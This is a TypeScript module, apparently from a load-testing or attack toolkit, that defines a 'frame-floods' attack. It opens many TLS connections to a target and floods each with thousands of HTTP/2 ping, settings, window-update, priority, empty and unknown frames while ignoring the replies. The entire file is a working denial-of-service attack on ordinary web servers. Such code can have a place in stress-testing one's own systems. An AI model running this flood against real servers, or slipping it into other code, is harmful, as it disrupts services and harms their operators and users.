import type { Attack } from '../attack.ts';
import { FRAME, frame, preface } from '../frames.ts';
import { dialTls } from '../place.ts';
import { hold, swarm } from '../swarm.ts';

const BATCH = 1000;

/** Frames that ask for an acknowledgement, or for nothing, in masses; the answers are not read. */
const FLOODS: readonly Buffer[] = [
  frame(FRAME.ping, 0, 0, Buffer.alloc(8)),
  frame(FRAME.settings, 0, 0),
  frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0])),
  frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])),
  frame(FRAME.priority, 0, 3, Buffer.from([0, 0, 0, 1, 16])),
  frame(FRAME.data, 0, 1),
  frame(0xfa, 0, 0, Buffer.alloc(64)),
];

export const frameFloods: Attack = {
  name: 'frame-floods',
  summary:
    'floods HTTP/2 connections with pings, settings, window updates, priorities, empty and unknown frames',
  async start(stage, signal) {
    const total = stage.size(50_000, 500_000);
    await swarm(FLOODS.length * 2, FLOODS.length, signal, async (index) => {
      const socket = await dialTls(stage.place, 'h2', signal);
      if (socket === undefined) return stage.tally.answer(0);
      socket.pause();
      socket.write(preface());
      const batch = Buffer.concat(
        Array.from({ length: BATCH }, () => FLOODS[index % FLOODS.length] ?? Buffer.alloc(0)),
      );
      for (let sent = 0; sent < total && !signal.aborted && socket.writable; sent += BATCH) {
        stage.tally.send(BATCH);
        if (!socket.write(batch)) await hold(10, signal);
        // What the server does not take is not piled up here.
        if (socket.writableLength > 4_000_000) break;
      }
      socket.destroy();
    });
    return [];
  },
};
